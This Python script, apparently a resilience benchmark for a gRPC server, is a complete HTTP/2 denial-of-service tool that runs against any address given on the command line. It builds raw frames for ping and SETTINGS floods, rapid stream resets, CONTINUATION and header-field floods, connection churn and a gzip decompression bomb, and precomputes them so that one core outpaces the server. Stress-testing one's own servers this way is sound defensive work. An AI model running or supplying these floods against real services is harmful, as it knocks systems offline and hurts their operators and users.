"""Attacks on an HTTP/2 server: `attacks.py ADDRESS NAME SECONDS`. Each keeps connections busy, new ones, too.

What is sent is made before, so that one core attacks faster than one can serve.
"""

from __future__ import annotations

import gzip
import itertools
import json
import selectors
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from objects import pre_object

DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
_START = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HOOK = "MyPreMiddleware"
_LARGE_BYTES = 3 * 2**20
_PIECE_BYTES = 16_384

#: What one connection sends, piece by piece.
Pieces = Iterator[bytes]


@dataclass(frozen=True)
class Attack:
    pieces: Callable[[], Pieces]
    connections: int = 8
    #: At the end of its pieces, or when the server says something then, a connection is closed.
    leaves: bool = False


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A field that no table keeps (RFC 7541 §6.2.2), of less than 127 bytes each."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def block(*more: bytes) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": "/coprocess.Dispatcher/Dispatch"}
    fields |= {":authority": "bench", "content-type": "application/grpc", "te": "trailers"}
    return b"".join((*(literal(name.encode(), fields[name].encode()) for name in fields), *more))


def message(payload: bytes, is_compressed: bool = False) -> bytes:
    return bytes((is_compressed,)) + len(payload).to_bytes(4, "big") + payload


def call(stream: int, fields: bytes, body: bytes) -> bytes:
    parts = [body[at : at + _PIECE_BYTES] for at in range(0, len(body), _PIECE_BYTES)]
    *most, last = parts
    data = [frame(DATA, 0, stream, each) for each in most]
    return b"".join(
        (frame(HEADERS, END_HEADERS, stream, fields), *data, frame(DATA, END_STREAM, stream, last))
    )


def _start(*settings: tuple[int, int]) -> bytes:
    """Windows are wide: what is answered is read."""
    said = b"".join(struct.pack(">HI", *each) for each in ((4, 2**31 - 1), *settings))
    return _START + frame(SETTINGS, 0, 0, said) + frame(WINDOW, 0, 0, (2**31 - 1 - 65_535).to_bytes(4, "big"))


def _of_streams(make: Callable[[int], bytes], at_once: int, most: int = 20_000) -> Callable[[], Pieces]:
    """The same pieces for each connection, as far as it comes."""
    made: list[bytes] = []
    numbers = iter(range(1, 2 * most, 2))

    def pieces() -> Pieces:
        yield _start()
        for at in itertools.count():
            if at == len(made):
                batch = list(itertools.islice(numbers, at_once))
                if not batch:
                    return
                made.append(b"".join(map(make, batch)))
            yield made[at]

    return pieces


def _again(start: bytes, piece: bytes) -> Callable[[], Pieces]:
    def pieces() -> Pieces:
        yield _start() + start
        yield from itertools.repeat(piece)

    return pieces


def attacks() -> dict[str, Attack]:
    fields = block()
    body = message(pre_object(_HOOK))
    packed = gzip.compress(pre_object(_HOOK, b"x" * _LARGE_BYTES))
    zipped = block(literal(b"grpc-encoding", b"gzip"))

    def reset(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS, stream, fields) + frame(RESET, 0, stream, b"\0\0\0\x08")

    def good(stream: int) -> bytes:
        return call(stream, fields, body)

    def new_fields(count: int) -> Callable[[int], bytes]:
        def make(stream: int) -> bytes:
            further = (literal(b"x-%d-%d" % (stream, each), b"%020d" % each) for each in range(count))
            return call(stream, block(*further), body)

        return make

    def large_block(stream: int) -> bytes:
        """A connection takes blocks of up to 32 KiB, and refuses each call."""
        first = block(*(literal(b"x-%d-%d" % (stream, each), b"%07d" % each) for each in range(800)))
        second = b"".join(literal(b"y-%d-%d" % (stream, each), b"%07d" % each) for each in range(700))
        return frame(HEADERS, END_STREAM, stream, first) + frame(CONTINUATION, END_HEADERS, stream, second)

    def large(stream: int) -> bytes:
        return call(stream, zipped, message(packed, True))

    widths = b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (65_535, 65_536))
    opened = frame(HEADERS, END_HEADERS, 1, fields)
    return {
        "pings": Attack(_again(b"", frame(PING, 0, 0, b"12345678") * 500)),
        "settings": Attack(_again(b"", widths * 250)),
        "empty frames": Attack(_again(opened, frame(DATA, 0, 1) * 500)),
        "resets": Attack(_of_streams(reset, 500)),
        "connections": Attack(lambda: iter((_start(),)), leaves=True),
        "bare connections": Attack(lambda: iter(()), leaves=True),
        "calls and away": Attack(_of_streams(good, 200, 200), leaves=True),
        "many calls": Attack(_of_streams(good, 32, 1_000_000)),
        "new fields": Attack(_of_streams(new_fields(100), 4)),
        "large blocks": Attack(_of_streams(large_block, 1, 1000)),
        "gzip": Attack(_of_streams(large, 8)),
    }


class _Connection:
    def __init__(self, address: tuple[str, int], attack: Attack) -> None:
        self.socket = socket.create_connection(address, 5)
        self.socket.setblocking(False)
        self._pieces = attack.pieces()
        self._leaves = attack.leaves
        self._rest = memoryview(b"")
        self.is_at_end = False

    def go_on(self, events: int) -> bool:
        """False where it is over."""
        if events & selectors.EVENT_WRITE and not self.is_at_end:
            if not self._rest:
                piece = next(self._pieces, b"")
                self.is_at_end = not piece
                self._rest = memoryview(piece)
            if self._rest:
                self._rest = self._rest[self.socket.send(self._rest) :]
        if events & selectors.EVENT_READ:
            if not self.socket.recv(1 << 18):
                return False
            return not (self.is_at_end and self._leaves)
        return True


def run(address: str, name: str, seconds: float) -> int:
    """How many connections it took."""
    host, _, port = address.rpartition(":")
    attack, target = attacks()[name], (host, int(port))
    until_s, connections = time.monotonic() + seconds, 0
    selector = selectors.DefaultSelector()
    both = selectors.EVENT_READ | selectors.EVENT_WRITE
    while (now_s := time.monotonic()) < until_s:
        while len(selector.get_map()) < attack.connections:
            connections += 1
            try:
                connection = _Connection(target, attack)
            except OSError:
                break
            selector.register(connection.socket, both, connection)
        for key, events in selector.select(until_s - now_s):
            try:
                goes_on = key.data.go_on(events)
                if goes_on and key.data.is_at_end and key.events == both:
                    selector.modify(key.fileobj, selectors.EVENT_READ, key.data)
            except OSError:
                goes_on = False
            if not goes_on:
                selector.unregister(key.fileobj)
                key.data.socket.close()
    return connections


if __name__ == "__main__":
    print(json.dumps({"connections": run(sys.argv[1], sys.argv[2], float(sys.argv[3]))}))
